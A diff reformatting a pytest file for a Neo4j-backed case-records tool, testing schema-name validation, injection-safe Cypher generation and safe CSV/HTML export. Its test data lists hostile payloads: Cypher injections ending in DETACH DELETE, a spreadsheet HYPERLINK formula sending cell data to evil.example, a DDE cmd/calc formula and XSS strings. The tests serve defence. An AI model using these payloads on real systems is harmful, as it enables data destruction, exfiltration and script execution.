@@ -43,12 +43,24 @@ GENERATORS = {
 }
 # What those generators may interpolate: schema labels, types and columns, and fragments built from them.
 SCHEMA_DERIVED = {
-    "ntype.label", "etype.type", "n.label", "e.type", "n.label.lower()", "e.type.lower()",  # checked names
-    "src", "dst",  # labels of an edge's ends, looked up in the schema by the validator
+    "ntype.label",
+    "etype.type",
+    "n.label",
+    "e.type",
+    "n.label.lower()",
+    "e.type.lower()",  # checked names
+    "src",
+    "dst",  # labels of an edge's ends, looked up in the schema by the validator
     "verb",  # "CREATE" or "MERGE", chosen by graph/load.py
     "where",  # a constant WHERE clause with a $case_id parameter
-    "c", "cols", "pairs", "var", "value(c, k)", "_TYPES[k]",  # columns and types of the schema
-    "_set_clause('n', ntype.columns(), present)", "_set_clause('e', etype.columns(), present)",
+    "c",
+    "cols",
+    "pairs",
+    "var",
+    "value(c, k)",
+    "_TYPES[k]",  # columns and types of the schema
+    "_set_clause('n', ntype.columns(), present)",
+    "_set_clause('e', etype.columns(), present)",
 }
 
 
@@ -72,8 +84,13 @@ def _built_cypher(tree: ast.AST) -> Iterator[tuple[ast.AST, list[ast.expr]]]:
             sides = [node.left, node.right]
             texts = [s.value for s in sides if isinstance(s, ast.Constant) and isinstance(s.value, str)]
             values = [s for s in sides if not isinstance(s, ast.Constant)]
-        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
-              and isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str)):
+        elif (
+            isinstance(node, ast.Call)
+            and isinstance(node.func, ast.Attribute)
+            and node.func.attr == "format"
+            and isinstance(node.func.value, ast.Constant)
+            and isinstance(node.func.value.value, str)
+        ):
             texts, values = [node.func.value.value], [*node.args, *(k.value for k in node.keywords)]
         if values and any(CYPHER_WORD.search(t) for t in texts):
             yield node, values
@@ -93,8 +110,9 @@ def test_generators_interpolate_only_schema_names():
     unexpected = []
     for rel in GENERATORS:
         for node, values in _built_cypher(ast.parse((ROOT / rel).read_text(encoding="utf-8"))):
-            unexpected += [f"{rel}:{node.lineno}: {{{ast.unparse(v)}}}" for v in values
-                           if ast.unparse(v) not in SCHEMA_DERIVED]
+            unexpected += [
+                f"{rel}:{node.lineno}: {{{ast.unparse(v)}}}" for v in values if ast.unparse(v) not in SCHEMA_DERIVED
+            ]
     assert not unexpected, "\n".join(unexpected)
 
 
@@ -105,7 +123,12 @@ def test_every_generated_statement_names_only_schema_types():
     for n in schema.nodes.values():
         cols = {c for c, _ in n.columns()}
         texts += [statements.node_write(n, verb, cols) for verb in ("CREATE", "MERGE")]
-        texts += [statements.ids_taken(n), statements.node_prune(n), statements.node_count(n, True), statements.node_export(n, True)]
+        texts += [
+            statements.ids_taken(n),
+            statements.node_prune(n),
+            statements.node_count(n, True),
+            statements.node_export(n, True),
+        ]
     for e in schema.edges.values():
         cols = {c for c, _ in e.columns()}
         texts += [statements.edge_write(e, a, b, cols) for a, b in e.pairs()]
@@ -115,13 +138,16 @@ def test_every_generated_statement_names_only_schema_types():
         assert "'" not in text and '"' not in text, f"a literal in generated Cypher: {text}"
 
 
-@pytest.mark.parametrize(("file", "old", "new"), [
-    ("nodes/Child.yaml", "label: Child", "label: 'Child) DETACH DELETE n //'"),
-    ("nodes/Child.yaml", "label: Child", "label: child"),
-    ("edges/WORKS_FOR.yaml", "type: WORKS_FOR", "type: 'WORKS_FOR]->() DETACH DELETE e //'"),
-    ("nodes/Child.yaml", "  name:", "  'name = 1 DETACH DELETE n //':"),
-    ("nodes/Child.yaml", "  name:", "  Name:"),
-])
+@pytest.mark.parametrize(
+    ("file", "old", "new"),
+    [
+        ("nodes/Child.yaml", "label: Child", "label: 'Child) DETACH DELETE n //'"),
+        ("nodes/Child.yaml", "label: Child", "label: child"),
+        ("edges/WORKS_FOR.yaml", "type: WORKS_FOR", "type: 'WORKS_FOR]->() DETACH DELETE e //'"),
+        ("nodes/Child.yaml", "  name:", "  'name = 1 DETACH DELETE n //':"),
+        ("nodes/Child.yaml", "  name:", "  Name:"),
+    ],
+)
 def test_schema_refuses_names_that_are_not_plain(tmp_path, file, old, new):
     """Labels, types and property names are checked when the schema loads, before any Cypher is made."""
     schema_dir = tmp_path / "schema"
@@ -137,40 +163,90 @@ def test_schema_refuses_names_that_are_not_plain(tmp_path, file, old, new):
 # ---------------------------------------------------------------------------------------------
 # Values that look like Cypher, formulas or markup survive the round trip unchanged.
 
-NASTY = ["O'Brien", 'Say "hi"', "back\\slash", "trailing\\", "}{", "{x}", "${x}", "$name", "' OR 1=1 //",
-         "'}) MATCH (n) DETACH DELETE n //", "\\'; MATCH (n) DETACH DELETE n", "`backtick`", "MATCH (n) DETACH DELETE n",
-         "/* comment */", "// comment", "100% {0} {} %s", "¶23 — “curly” ‘quotes’", "Ünïcödé 北京 🧩", "\\u0027",
-         "tab\there", "<script>alert(1)</script>", '=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3",
-         "  spaced  ", "a\u2028b", "null", "NULL", "true", "[]"]
+NASTY = [
+    "O'Brien",
+    'Say "hi"',
+    "back\\slash",
+    "trailing\\",
+    "}{",
+    "{x}",
+    "${x}",
+    "$name",
+    "' OR 1=1 //",
+    "'}) MATCH (n) DETACH DELETE n //",
+    "\\'; MATCH (n) DETACH DELETE n",
+    "`backtick`",
+    "MATCH (n) DETACH DELETE n",
+    "/* comment */",
+    "// comment",
+    "100% {0} {} %s",
+    "¶23 — “curly” ‘quotes’",
+    "Ünïcödé 北京 🧩",
+    "\\u0027",
+    "tab\there",
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://evil.example","x")',
+    "@SUM(1)",
+    "-2+3",
+    "  spaced  ",
+    "a\u2028b",
+    "null",
+    "NULL",
+    "true",
+    "[]",
+]
 
 
 def _case_dir(tmp: Path, case_id: str, prefix: str, names: list[str]) -> Path:
     """A case with one Agency and one Child per name, written as YAML the way any tool would."""
     tmp.mkdir(parents=True, exist_ok=True)
-    (tmp / "case.yaml").write_text(yaml.safe_dump({"case": case_id, "document": f"{prefix}doc", "nodes": [
-        {"type": "SourceDocument", "id": f"{prefix}doc", "name": "Review", "source": "Title page"}]}), encoding="utf-8")
-    nodes = [{"type": "Agency", "id": f"{prefix}ag{i}", "name": name, "sector": "other", "source": "¶1"}
-             for i, name in enumerate(names)]
+    (tmp / "case.yaml").write_text(
+        yaml.safe_dump(
+            {
+                "case": case_id,
+                "document": f"{prefix}doc",
+                "nodes": [{"type": "SourceDocument", "id": f"{prefix}doc", "name": "Review", "source": "Title page"}],
+            }
+        ),
+        encoding="utf-8",
+    )
+    nodes = [
+        {"type": "Agency", "id": f"{prefix}ag{i}", "name": name, "sector": "other", "source": "¶1"}
+        for i, name in enumerate(names)
+    ]
     nodes += [{"type": "Child", "id": f"{prefix}ch{i}", "name": name, "source": "¶1"} for i, name in enumerate(names)]
-    edges = [{"type": "INVOLVED_WITH", "from": f"{prefix}ag{i}", "to": f"{prefix}ch{i}", "period": "2015",
-              "role": name, "source": "¶1"} for i, name in enumerate(names)]
-    (tmp / "records.yaml").write_text(yaml.safe_dump({"nodes": nodes, "edges": edges}, allow_unicode=True),
-                                      encoding="utf-8")
+    edges = [
+        {
+            "type": "INVOLVED_WITH",
+            "from": f"{prefix}ag{i}",
+            "to": f"{prefix}ch{i}",
+            "period": "2015",
+            "role": name,
+            "source": "¶1",
+        }
+        for i, name in enumerate(names)
+    ]
+    (tmp / "records.yaml").write_text(
+        yaml.safe_dump({"nodes": nodes, "edges": edges}, allow_unicode=True), encoding="utf-8"
+    )
     return tmp
 
 
 def _round_trips(backend, case_id: str, prefix: str, names: list[str]) -> None:
     for i, name in enumerate(names):
-        rows = backend.read("MATCH (a:Agency) WHERE a.name = $name AND a.case_id = $case_id RETURN a.id AS id",
-                            {"name": name, "case_id": case_id})
+        rows = backend.read(
+            "MATCH (a:Agency) WHERE a.name = $name AND a.case_id = $case_id RETURN a.id AS id",
+            {"name": name, "case_id": case_id},
+        )
         assert rows == [{"id": f"{prefix}ag{i}"}], name
-        rows = backend.read("MATCH (a:Agency {id: $id})-[r:INVOLVED_WITH]->(c:Child) "
-                            "RETURN a.name AS agency, r.role AS role, c.name AS child", {"id": f"{prefix}ag{i}"})
+        rows = backend.read(
+            "MATCH (a:Agency {id: $id})-[r:INVOLVED_WITH]->(c:Child) "
+            "RETURN a.name AS agency, r.role AS role, c.name AS child",
+            {"id": f"{prefix}ag{i}"},
+        )
         assert rows == [{"agency": name, "role": name, "child": name}], name
     children = {r["child"]: r["name"] for r in run_query(backend, "children", case_id=case_id)}
     assert children == {f"{prefix}ch{i}": name for i, name in enumerate(names)}
-
-
 
 
 def test_nasty_values_round_trip_on_the_embedded_store(embedded, tmp_path):
@@ -188,8 +264,15 @@ def test_nasty_values_round_trip_on_neo4j(neo4j_server, tmp_path):
 
 
 # Any text the validator accepts for a name: no control characters, no lone surrogates.
-NAMES = st.lists(st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=30)
-                 .filter(lambda s: s.strip()), min_size=1, max_size=4, unique=True)
+# Cf (bidi overrides, zero-width characters) is refused in names by the validator (test_validate_attacks.py).
+NAMES = st.lists(
+    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cf")), min_size=1, max_size=30).filter(
+        lambda s: s.strip()
+    ),
+    min_size=1,
+    max_size=4,
+    unique=True,
+)
 
 
 @pytest.fixture(scope="module")
@@ -221,13 +304,26 @@ def test_any_valid_name_round_trips_on_neo4j(neo4j_server, tmp_path_factory, nam
 # ---------------------------------------------------------------------------------------------
 # Exports: CSV cells cannot run as formulas; HTML cannot run as markup.
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 def _report(value: str) -> Report:
-    finding = {"query": "uninvited_agencies", "child": "C1", "party": "GP", "party_name": value,
-               "meeting_name": value, "evidence": ["¶4", value]}
+    finding = {
+        "query": "uninvited_agencies",
+        "child": "C1",
+        "party": "GP",
+        "party_name": value,
+        "meeting_name": value,
+        "evidence": ["¶4", value],
+    }
     return Report("mini", "embedded", [{"child": "C1", "name": value}], [finding])
 
 
@@ -257,7 +353,7 @@ def test_csv_report_of_a_case_with_a_malicious_name(tmp_path):
 
 
 def test_html_report_escapes_script_and_handlers():
-    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "\"><svg onload=alert(1)>"]
+    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '"><svg onload=alert(1)>']
     for value in attacks:
         page = to_html(_report(value), evidence_text=lambda ref, v=value: v)
         assert "<script>" not in page and "<img" not in page and "<svg" not in page
